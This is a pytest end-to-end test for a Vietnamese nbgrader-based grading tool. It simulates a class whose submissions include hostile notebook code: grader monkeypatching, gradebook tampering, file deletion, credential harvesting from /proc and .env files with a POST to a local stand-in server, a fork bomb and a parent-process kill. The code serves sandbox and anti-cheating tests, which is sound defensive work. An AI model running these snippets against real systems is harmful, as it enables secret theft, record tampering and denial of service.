"""End to end: a class of 25 through nbgrader's exchange, Zalo zips and parallel grading.

One class is built once (module fixture) on the real assignment ``a01_thong_bao`` and
every assertion reads it: init → roster import → release → trainees fetch and submit
through nbgrader's exchange (in-process with nbgrader's exchange classes, one through
the real ``nbgrader`` command) or send a zip → collect (exchange, then ``--from``) →
``autograde --workers 2`` → again (idempotent) → feedback → ``report --xlsx``.

The trainer's environment holds a (fake) OpenAI key and points OpenAI at a local
vendor server: grading must never call it and the key must appear nowhere.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from congdoan.cli import cli
from congdoan.course.coursedir import Course
from congdoan.course.gradebook import check_integrity
from tests.course import classroom
from tests.grading import answers
from tests.vendor_server import VendorServer

pytestmark = pytest.mark.slow

NAME = "a01_thong_bao"
FAKE_KEY = "sk-giang-vien-FAKE-0123456789abcdef"
TRAINEE_KEY = "sk-hoc-vien-tu-dat-9876543210zyxw"
WORKERS = "2"
TIMEOUT = "25"  # per submission; the stubborn loop is killed after this

STUBBORN = (
    "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    "while True:\n    time.sleep(0.01)"
)
SNOOP = (
    "\nimport os\n"
    'print(sorted((k, v) for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k))\n'
    f'os.environ["OPENAI_API_KEY"] = "{TRAINEE_KEY}"\n'
    'print(ask("Xin chào", provider="openai").text[:40])'
)

#: trainee -> (how the work arrives, what it is, expected score, expected main status)
PLAN = {
    **{f"HV{i:03d}": ("exchange", "solution", 8.0, "ok") for i in range(1, 9)},
    **{f"HV{i:03d}": ("exchange", "partial", 6.0, "ok") for i in range(9, 13)},
    "HV013": ("exchange", "empty", 0.0, "empty"),
    "HV014": ("exchange", "empty", 0.0, "empty"),
    "HV015": ("zip", "broken", 0.0, "syntax_error"),
    "HV016": ("zip", "loop", 2.0, "timeout"),
    "HV017": ("zip", "stubborn", 0.0, "timeout"),
    "HV018": ("zip", "no_answer_cell", 2.0, "missing_answer"),
    "HV019": ("exchange", "tampered", 8.0, "tampered_test"),
    "HV020": ("zip", "huge", 8.0, "huge_output"),
    "HV021": ("exchange", "snoop", 8.0, "ok"),
    "HV022": ("zip", "not_json", None, None),
    "HV023": ("zip", "solution", 8.0, "ok"),
    "HV024": ("zip", "partial", 6.0, "ok"),
}
CLI_TRAINEE = "HV008"  # fetches and submits with the real `nbgrader` command

DOTENV_KEY = "sk-dotenv-PLANTED-abcdef0123456789"  # in a .env above the class folder
HONEST_PARTIAL = 6.0  # every cheat below starts from the partial answers: at most this
#: Filled in by the fixture: the class folder and the listening vendor server.
TARGET: dict[str, str] = {}

#: Hostile trainees: the partial answers, then an attack appended to the prompt cell.
ATTACKS = {
    "HV025": (
        "monkeypatch",
        "import congdoan, congdoan.grading as _g, congdoan.grading.core as _c\n"
        "import congdoan.grading.assignments as _a\n"
        "_g.grade_part = _a.grade_part = lambda *a, **k: 4.0\n"
        "_c.points_for = lambda items, points: float(points)\n"
        "congdoan.check = lambda *a, **k: None\n"
        "grade_part = lambda *a, **k: 4.0",
    ),
    "HV026": (
        "builtins",
        "import builtins\n"
        "builtins.min = lambda *a, **k: 4.0\nbuiltins.round = lambda *a, **k: 4.0\n"
        "builtins.sum = lambda *a, **k: 4.0",
    ),
    "HV027": (
        "transformer",
        "def _rewrite(lines):\n"
        "    text = ''.join(lines)\n"
        "    return ['4\\n'] if 'grade_part' in text or 'emit' in text else lines\n"
        "get_ipython().input_transformers_cleanup.append(_rewrite)",
    ),
    "HV028": (
        "returns_none",
        "import congdoan.grading as _g\n_g.grade_part = lambda *a, **k: None\n"
        "grade_part = lambda *a, **k: None",
    ),
    "HV029": (
        "trainer_files",
        "import os, sqlite3\n"
        "for _db in [ROOT + '/gradebook.db']:\n"
        "    try:\n"
        "        _c = sqlite3.connect(_db)\n"
        "        _c.execute('UPDATE grade SET manual_score = 10'); _c.commit()\n"
        "    except Exception as _e: print('gradebook:', type(_e).__name__)\n"
        "for _p in [ROOT + '/submitted/HV001/a01_thong_bao/a01_thong_bao.ipynb',\n"
        "           ROOT + '/autograded/HV002/a01_thong_bao/a01_thong_bao.ipynb']:\n"
        "    try: os.remove(_p)\n"
        "    except Exception as _e: print('xoa:', type(_e).__name__)\n"
        "try:\n"
        "    with open(ROOT + '/nbgrader_config.py', 'a') as _f: _f.write('\\nimport os\\n')\n"
        "except Exception as _e: print('config:', type(_e).__name__)\n"
        "try: open(ROOT + '/../da_vao_day.txt', 'w').write('x')\n"
        "except Exception as _e: print('ngoai:', type(_e).__name__)",
    ),
    "HV030": (
        "secrets",
        "import os, json, urllib.request\n"
        "_found = dict(os.environ)\n"
        "for _pid in os.listdir('/proc'):\n"
        "    if _pid.isdigit():\n"
        "        try: _found[_pid] = open(f'/proc/{_pid}/environ', 'rb').read().decode('latin-1')\n"
        "        except Exception: pass\n"
        "for _d in [os.getcwd(), ROOT, ROOT + '/..', os.path.expanduser('~'), '/root']:\n"
        "    try: _found[_d] = open(os.path.join(_d, '.env')).read()\n"
        "    except Exception: pass\n"
        "print(json.dumps(_found)[:5000])\n"
        "try: urllib.request.urlopen(urllib.request.Request(URL, data=json.dumps(_found).encode()),"
        " timeout=2)\n"
        "except Exception as _e: print('mang:', type(_e).__name__)",
    ),
    "HV031": (
        "bombs",
        "import os, time\n_kids = 0\n"
        "try:\n"
        "    for _ in range(3000):\n"
        "        _pid = os.fork()\n"
        "        if _pid == 0:\n"
        "            time.sleep(20); os._exit(0)\n"
        "        _kids += 1\n"
        "except OSError as _e: print('fork:', type(_e).__name__)\n"
        "try: _hog = bytearray(64 << 30)\n"
        "except MemoryError: print('bo nho: MemoryError')",
    ),
    "HV032": (  # the process that runs the notebook, and its parent
        "kill_parent",
        "import os, signal\n"
        "try: os.kill(os.getppid(), signal.SIGKILL)\n"
        "except OSError as _e: print('cha:', type(_e).__name__)\n"
        "os.kill(os.getpid(), signal.SIGKILL)",
    ),
}
PLAN.update({student: ("exchange", kind, None, None) for student, (kind, _) in ATTACKS.items()})
ROSTER = len(PLAN)
GRADED = ROSTER - 1  # HV022's file was broken


def _work(base: dict, kind: str) -> dict:
    nb = json.loads(json.dumps(base))
    cells = {c["metadata"].get("nbgrader", {}).get("grade_id"): c for c in nb["cells"]}
    which = {"tampered": "solution", "huge": "solution", "snoop": "solution"}.get(kind, kind)
    if which in ("solution", "partial", "broken"):
        for grade_id, source in answers.variant(NAME, which).items():
            cells[grade_id]["source"] = source
    if kind in ("loop", "stubborn", "no_answer_cell"):
        cells["a01_answer_prompt"]["source"] = answers.variant(NAME, "solution")[
            "a01_answer_prompt"
        ]
    if kind == "loop":
        cells["a01_answer_draft"]["source"] = "while True:\n    pass"
    elif kind == "stubborn":
        cells["a01_answer_draft"]["source"] = STUBBORN
    elif kind == "no_answer_cell":
        nb["cells"].remove(cells["a01_answer_draft"])
    elif kind == "tampered":
        cells["a01_notice"]["source"] = "4  # sửa ô chấm cho đủ điểm"
    elif kind == "huge":
        cells["a01_answer_prompt"]["source"] += "\nfor i in range(20000):\n    print(i)"
    elif kind == "snoop":
        cells["a01_answer_prompt"]["source"] += SNOOP
    elif kind in {attack for attack, _ in ATTACKS.values()}:
        for grade_id, source in answers.variant(NAME, "partial").items():
            cells[grade_id]["source"] = source
        code = dict(ATTACKS.values())[kind]
        prelude = f"ROOT = {TARGET['root']!r}\nURL = {TARGET['url']!r}\n"
        cells["a01_answer_prompt"]["source"] += "\n" + prelude + code
    return nb


def _exchange_submit(course_root: Path, course_id: str, student: str, base: dict, kind: str):
    """A trainee on the shared server: nbgrader's own fetch and submit, as ``student``."""
    from nbgrader.auth import Authenticator
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.exchange.default import ExchangeFetchAssignment, ExchangeSubmit
    from traitlets.config import Config

    home = course_root.parent / "hoc_vien" / student
    home.mkdir(parents=True, exist_ok=True)
    config = Config()
    config.Exchange.root = str(course_root / "exchange")
    config.Exchange.assignment_dir = str(home)
    config.Exchange.cache = str(home / ".cache")
    config.CourseDirectory.course_id = course_id
    config.CourseDirectory.student_id = student
    coursedir = CourseDirectory(config=config)
    coursedir.assignment_id = NAME
    auth = Authenticator(config=config)
    ExchangeFetchAssignment(coursedir=coursedir, authenticator=auth, config=config).start()
    path = home / NAME / f"{NAME}.ipynb"
    fetched = json.loads(path.read_text(encoding="utf-8"))
    assert [c["source"] for c in fetched["cells"]] == [c["source"] for c in base["cells"]]
    path.write_text(classroom.dump(_work(fetched, kind)), encoding="utf-8")
    ExchangeSubmit(coursedir=coursedir, authenticator=auth, config=config).start()


def _cli_submit(course_root: Path, course_id: str, student: str, kind: str) -> None:
    home = course_root.parent / "hoc_vien" / student
    home.mkdir(parents=True, exist_ok=True)
    common = [
        f"--course={course_id}",
        f"--Exchange.root={course_root / 'exchange'}",
        f"--Exchange.assignment_dir={home}",
        f"--Exchange.cache={home / '.cache'}",
        f"--CourseDirectory.student_id={student}",
    ]
    env = {k: v for k, v in os.environ.items() if "KEY" not in k}
    for command in ("fetch_assignment", "submit"):
        if command == "submit":
            path = home / NAME / f"{NAME}.ipynb"
            nb = json.loads(path.read_text(encoding="utf-8"))
            path.write_text(classroom.dump(_work(nb, kind)), encoding="utf-8")
        done = subprocess.run(
            [sys.executable, "-m", "nbgrader", command, NAME, *common],
            cwd=home,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr[-2000:]


def _zip(course_root: Path, base: dict, people: dict) -> tuple[Path, dict[str, str]]:
    names = {
        "HV015": "HV015_a01.ipynb",
        "HV016": "hv016.ipynb",
        "HV017": "HV017 bai 1.ipynb",
        "HV018": "Zalo/HV018.ipynb",
        "HV020": "bai lam (2).ipynb",  # identified by the notebook's metadata only
        "HV022": "HV022.ipynb",
        "HV023": unicodedata.normalize("NFD", f"{people['HV023']}.ipynb"),
        "HV024": classroom.fold_name(people["HV024"]) + " - a01.ipynb",
    }
    archive = course_root.parent / "zalo.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for student, file_name in names.items():
            kind = PLAN[student][1]
            if kind == "not_json":
                z.writestr(file_name, b'{"cells": [{"cell_type": "code", "source": "x = ')
                continue
            nb = _work(base, kind)
            if student == "HV020":
                nb["metadata"]["congdoan"] = {"ma_hoc_vien": student}
            z.writestr(file_name, classroom.dump(nb))
        z.writestr("Nguoi La.ipynb", classroom.dump(_work(base, "solution")))
    return archive, names


@pytest.fixture(scope="module")
def klass(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("e2e")
    root = tmp / "lop-hue"
    server = VendorServer().start()
    runner = CliRunner()
    state: dict = {"root": root, "server": server, "timings": {}}

    def run(*args):
        started = time.monotonic()
        result = runner.invoke(cli, ["course", "-C", str(root), *args])
        state["timings"][args[0]] = time.monotonic() - started
        assert result.exit_code == 0, result.output
        return result.output

    with pytest.MonkeyPatch.context() as mp:
        for name in list(os.environ):
            if name.startswith("CONGDOAN_") or "KEY" in name or "TOKEN" in name:
                mp.delenv(name, raising=False)
        mp.setenv("CONGDOAN_ENV_FILE", str(tmp / "absent.env"))
        mp.setenv("CONGDOAN_TRANSCRIPT", str(tmp / "trainer-transcript.jsonl"))
        mp.setenv("OPENAI_API_KEY", FAKE_KEY)  # the trainer's own key: must never leak
        mp.setenv("CONGDOAN_OPENAI_BASE_URL", server.url + "/v1")
        mp.setenv("CONGDOAN_PROVIDER", "openai")
        try:
            started = time.monotonic()
            result = runner.invoke(
                cli, ["course", "init", str(root), "--course-id", "hue-2026", "--cell-timeout", "5"]
            )
            assert result.exit_code == 0, result.output
            people = classroom.people(ROSTER)
            TARGET.update(root=str(root), url=server.url + "/v1/chat/completions")
            (tmp / ".env").write_text(f"OPENAI_API_KEY={DOTENV_KEY}\n", encoding="utf-8")
            state["config_before"] = (root / "nbgrader_config.py").read_bytes()
            state["people"] = {p[0]: p[1] for p in people}
            roster = classroom.roster_csv(tmp / "danh_sach.csv", people, sep=";")
            run("roster", "import", str(roster))
            state["release"] = run("release", NAME)
            base = classroom.released(root, NAME)
            for student, (how, kind, _, _) in PLAN.items():
                if how == "exchange" and student != CLI_TRAINEE:
                    _exchange_submit(root, "hue-2026", student, base, kind)
            _cli_submit(root, "hue-2026", CLI_TRAINEE, PLAN[CLI_TRAINEE][1])
            archive, state["zip_names"] = _zip(root, base, state["people"])
            state["collect_exchange"] = run("collect", NAME)
            state["collect_zip"] = run("collect", NAME, "--from", str(archive))
            state["autograde"] = run("autograde", NAME, "--workers", WORKERS, "--timeout", TIMEOUT)
            state["first"] = _scores(root)
            state["fields"] = classroom.grade_rows(root)
            state["integrity_first"] = check_integrity(Course(root).db_path)
            state["autograde_again"] = run(
                "autograde", NAME, "--workers", WORKERS, "--timeout", TIMEOUT
            )
            state["second"] = _scores(root)
            state["integrity_second"] = check_integrity(Course(root).db_path)
            state["feedback"] = run("feedback", NAME)
            state["report"] = run(
                "report", "--xlsx", str(tmp / "bao_cao.xlsx"), "--certificates", str(tmp / "cn")
            )
            state["xlsx"] = tmp / "bao_cao.xlsx"
            state["certificates"] = tmp / "cn"
            state["seconds"] = time.monotonic() - started
            yield state
        finally:
            server.stop()


def _scores(root: Path) -> dict[str, float]:
    """Scores straight from the gradebook file (not through our code)."""
    connection = sqlite3.connect(root / "gradebook.db")
    try:
        rows = connection.execute(
            "SELECT sa.student_id, SUM(COALESCE(g.manual_score, g.auto_score, 0))"
            " FROM submitted_assignment sa"
            " JOIN submitted_notebook sn ON sn.assignment_id = sa.id"
            " JOIN grade g ON g.notebook_id = sn.id GROUP BY sa.student_id"
        ).fetchall()
    finally:
        connection.close()
    return {student: round(score, 2) for student, score in rows}


def _progress(output: str) -> dict[str, str]:
    lines = [line for line in output.splitlines() if line.startswith("[")]
    return {line.split("] ", 1)[1].split(":", 1)[0]: line for line in lines}


def test_release_and_collection_report(klass):
    assert "Đã phát bài a01_thong_bao qua thư mục trao đổi" in klass["release"]
    exchanged = sum(how == "exchange" for how, *_ in PLAN.values())
    assert klass["collect_exchange"].startswith(
        f"Đã thu bài a01_thong_bao từ thư mục trao đổi: {exchanged}"
    )
    lines = klass["collect_zip"].splitlines()
    assert lines[0] == (
        "Thu bài: 7 tệp đã ghép với học viên, 1 tệp chưa ghép được, 1 tệp hỏng hoặc sai bài."
    )
    names = klass["zip_names"]
    assert f"  ✓ {names['HV023']} → HV023 (họ tên trong tên tệp)" in lines
    assert f"  ✓ {names['HV024']} → HV024 (họ tên trong tên tệp)" in lines
    assert "  ✓ bai lam (2).ipynb → HV020 (mã học viên ghi trong bài)" in lines
    assert "  ✗ HV022.ipynb: tệp hỏng, không phải sổ tay Jupyter hợp lệ (JSON lỗi)" in lines
    assert any(line.startswith("  ? Nguoi La.ipynb: không tìm thấy") for line in lines)


def test_every_submission_has_its_expected_score_and_status(klass):
    scores, progress = klass["first"], _progress(klass["autograde"])
    assert len(progress) == GRADED  # HV022's file was broken
    for student, (_, kind, score, status) in PLAN.items():
        if student in ATTACKS:
            continue
        if score is None:
            assert student not in scores and student not in progress
            continue
        assert scores[student] == score, (student, kind, progress[student])
        from congdoan.i18n import msg

        label = msg(f"course.status.{status}")
        assert progress[student].split(": ", 1)[1].startswith(label), progress[student]
    assert f"[{GRADED}/{GRADED}]" in klass["autograde"]
    # nbgrader gives up on a kernel that ignores its interrupt, or we kill it at --timeout
    assert "HV017: quá thời gian · 0/10 (" in klass["autograde"]


def test_gradebook_intact_and_rerun_idempotent(klass):
    assert klass["integrity_first"]["integrity"] == "ok"
    assert klass["integrity_first"]["duplicates"] == 0
    assert klass["integrity_second"] == klass["integrity_first"]
    assert klass["second"] == klass["first"]
    assert klass["integrity_first"]["rows"]["student"] == ROSTER


def test_no_ai_call_and_no_key_anywhere(klass):
    assert klass["server"].requests == []
    root = klass["root"]
    files = [p for p in (root / "autograded").rglob("*") if p.is_file()]
    files += [p for p in (root / "feedback").rglob("*") if p.is_file()]
    assert len(files) >= 40
    for path in files:
        text = path.read_bytes().decode("utf-8", errors="replace")
        assert FAKE_KEY not in text, path
    snoop = (root / "feedback" / "HV021" / NAME / f"{NAME}.html").read_text(encoding="utf-8")
    assert TRAINEE_KEY not in snoop  # a key typed by a trainee is masked in feedback too


def test_feedback_is_vietnamese_and_hides_hidden_tests(klass):
    root = klass["root"]
    # every graded trainee gets a page: the two whose work could not be graded (killed
    # at the time limit, killed the grader) a short one saying what happened
    assert klass["feedback"].startswith(f"Đã tạo phản hồi bài a01_thong_bao cho {GRADED} học viên")
    killer = next(s for s, (k, _) in ATTACKS.items() if k == "kill_parent")
    page = (root / "feedback" / killer / NAME / f"{NAME}.html").read_text(encoding="utf-8")
    assert "chưa chấm được" in page and "nộp lại" in page
    hidden = 'grade_part("a01", "facts"'
    autograded = json.loads((root / "autograded" / "HV001" / NAME / f"{NAME}.ipynb").read_text())
    assert any(
        hidden in "".join(c["source"]) for c in autograded["cells"]
    )  # nbgrader restored the hidden test for grading...
    for page in (root / "feedback").rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert (
            'grade_part</span><span class="p">(</span><span class="s2">&quot;a01&quot;'
            '</span><span class="p">,</span> <span class="s2">&quot;facts' not in text
        )
        assert "&quot;facts&quot;" not in text  # ...but no page shows it
        assert ("Điểm:" in text and "Ô kiểm tra" in text) or "chưa chấm được" in text


def test_report_numbers_and_workbook(klass):
    from openpyxl import load_workbook

    report = klass["report"]
    assert report.startswith(f"Báo cáo lớp hue-2026: {ROSTER} học viên, 1 bài.\n")
    assert f"- a01_thong_bao: {GRADED} bài đã chấm" in report  # killed ones: 0, still counted
    assert "Nên dạy lại (mã kiểm tra nhiều học viên chưa đạt nhất):" in report
    book = load_workbook(klass["xlsx"])
    rows = {r[0]: r for r in list(book["Học viên"].values)[1:]}
    assert rows["HV001"][3] == 8 and rows["HV022"][4] == "chưa nộp"
    assert rows["HV017"][4] == "quá thời gian"
    checks = {(r[0], r[1]): r for r in list(book["Mã kiểm tra"].values)[1:]}
    assert checks[(NAME, "a01_prompt")][4] == GRADED


def test_report_lists_who_has_no_certificate_yet(klass):
    """A certificate needs all six assignments of the syllabus: this a01-only class earns
    none yet, and the report says for each trainee what is missing instead of failing."""
    folder, report = klass["certificates"], klass["report"]
    assert "Đã ghi 0 giấy chứng nhận" in report
    assert not folder.exists() or not any(folder.iterdir())
    assert "- HV001: chưa đủ điều kiện nhận giấy chứng nhận (" in report
    assert "a02_ke_hoach" in report.split("- HV001: chưa đủ điều kiện", 1)[1].splitlines()[0]


def test_runtime_budget(klass):
    print(f"\nend-to-end: {klass['seconds']:.0f} s; steps: {klass['timings']}")
    assert klass["seconds"] < 300


def test_no_cheat_scores_above_its_honest_work(klass):
    """Each attack rides on the partial answers (6/10): it earns 6 at most, never more."""
    scores, progress = klass["first"], _progress(klass["autograde"])
    for student, (kind, _) in ATTACKS.items():
        assert scores[student] <= HONEST_PARTIAL, (student, kind, progress[student])
    # replaced builtins break the trainee's own kernel (1.5/10 measured): less, never more;
    # attacks that cannot touch the grading leave the honest partial score intact
    for kind in ("monkeypatch", "returns_none", "trainer_files", "secrets", "bombs"):
        student = next(s for s, (k, _) in ATTACKS.items() if k == kind)
        assert scores[student] == HONEST_PARTIAL, (kind, progress[student])
    transformer = next(s for s, (k, _) in ATTACKS.items() if k == "transformer")
    assert scores[transformer] == 0  # its grading cells handed out no answers
    killer = next(s for s, (k, _) in ATTACKS.items() if k == "kill_parent")
    assert scores[killer] == 0 and "lỗi khi chấm" in progress[killer]


def test_hostile_work_changes_nothing_outside_its_sandbox(klass):
    root, fields = klass["root"], klass["fields"]
    assert (root / "nbgrader_config.py").read_bytes() == klass["config_before"]
    assert (root / "submitted" / "HV001" / NAME / f"{NAME}.ipynb").is_file()
    assert (root / "autograded" / "HV002" / NAME / f"{NAME}.ipynb").is_file()
    assert not (root.parent / "da_vao_day.txt").exists()
    assert all(manual is None for _, manual, _, _ in fields.values())  # nobody set a manual score
    for (student, cell), (auto, *_) in fields.items():  # honest rows: exactly their points
        kind = PLAN.get(student, ("", ""))[1]
        if kind in ("solution", "partial") and cell in answers.EXPECTED[NAME][kind]:
            assert auto == answers.EXPECTED[NAME][kind][cell], (student, cell)
    assert "sổ điểm có" not in klass["autograde"]  # no score changed behind the grader's back


def test_no_planted_key_in_any_file_or_request(klass):
    assert klass["server"].requests == []
    root = klass["root"]
    files = [p for p in root.rglob("*") if p.is_file() and p.name != "gradebook.db"]
    files.append(klass["xlsx"])
    snoop = root / "autograded" / next(iter(s for s, (k, _) in ATTACKS.items() if k == "secrets"))
    assert any(snoop.rglob("*.ipynb"))
    for path in files:
        text = path.read_bytes().decode("utf-8", errors="replace")
        assert FAKE_KEY not in text, path
        assert DOTENV_KEY not in text, path
